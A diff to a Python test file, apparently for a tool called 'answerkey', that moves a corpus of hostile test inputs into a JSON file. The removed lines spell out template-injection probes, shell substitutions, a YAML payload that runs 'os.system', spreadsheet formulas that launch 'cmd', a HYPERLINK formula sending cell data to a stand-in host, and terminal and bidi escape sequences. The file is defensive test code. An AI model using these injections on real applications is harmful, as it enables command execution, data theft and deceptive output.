@@ -24,38 +24,12 @@ from tests.browser.injections import INJECTIONS
 from answerkey.cli import main
 from answerkey.testing import Reply, TestServer
 
-CODE = (
-    "{{ 7 * 7 }}", "{{ sample.answer }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}",
-    "{% raw %}{{ x }}", "{{ ''.__class__.__mro__ }}", "<< config.secret >>", "<< sample.answer >>",
-    "$HOME ${HOME} $(id) `id`", "!include ../secret.yaml", "!!python/object/apply:os.system [id]",
-    "%(answer)s {answer} {0.__class__}",
-)  # fmt: skip
-FORMULAS = (
-    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1,2)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-    " =1+1",
-    "\t=1+1", "\r=1+1", "x\n=1+1", "x;=1+1", "x\t@SUM(1)", '=HYPERLINK("http://x.invalid?"&A1,"press")',
-    "＝1+1", "-", "+5", "-1.5e3",
-)  # fmt: skip
-TERMINAL = (
-    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07",
-    "\x1bP+q544e\x1b\\",
-    "\x9b31mred", "\x9d0;title\x9c", "\x90q\x9c", "a\x08b", "over\rwritten", "bell\x07",
-    "\x0e\x0f", "\x7f",
-    "\x1b[6n", "a\x0bb\x0cc", "[bold red]rich[/bold red]", "[link=http://x.invalid]press[/link]",
-)  # fmt: skip
-TURNED = (
-    "\u202eevil\u202c", "\u2066\u2067x\u2069\u2069", "\u200e\u200f\u061c", "a\u2028b\u2029c",
-    "\u200b\ufeffx\u2060", "\U000e0041\U000e007f", "x\u00ady", "\u3164\uffa0",
-    "\ufff9a\ufffab\ufffb",
-    "\x85next", "שלום \u202d abc",
-)  # fmt: skip
-PLAIN = (
-    "line\r\nends\rof all\nkinds\n", "  spaces stay  ", "\ttabs\t", "e\u0301 is not \u00e9",
-    "\U0001f469\u200d\U0001f52c", '"quoted", ""twice"", and, commas', "\\n \\u202e \\x1b", "NA",
-    "null",
-    "true", "007", "1e5", "2026-11-16", "A,B;C|D",
-)  # fmt: skip
-TEXTS = (*INJECTIONS, *CODE, *FORMULAS, *TERMINAL, *TURNED, *PLAIN)
+#: Code, formulas, escapes for a terminal, marks that turn or hide text, and what stays as it is.
+KINDS: dict[str, list[str]] = json.loads(
+    (Path(__file__).parent / "corpora" / "texts.json").read_text(encoding="utf-8")
+)
+FORMULAS, TERMINAL, TURNED = (KINDS[name] for name in ("formulas", "terminal", "turned"))
+TEXTS = (*INJECTIONS, *(text for texts in KINDS.values() for text in texts))
 #: What moves the cursor, ends a line early, hides or turns what follows; a line feed ends a line of
 #: ours.
 ACTIVE = re.compile(
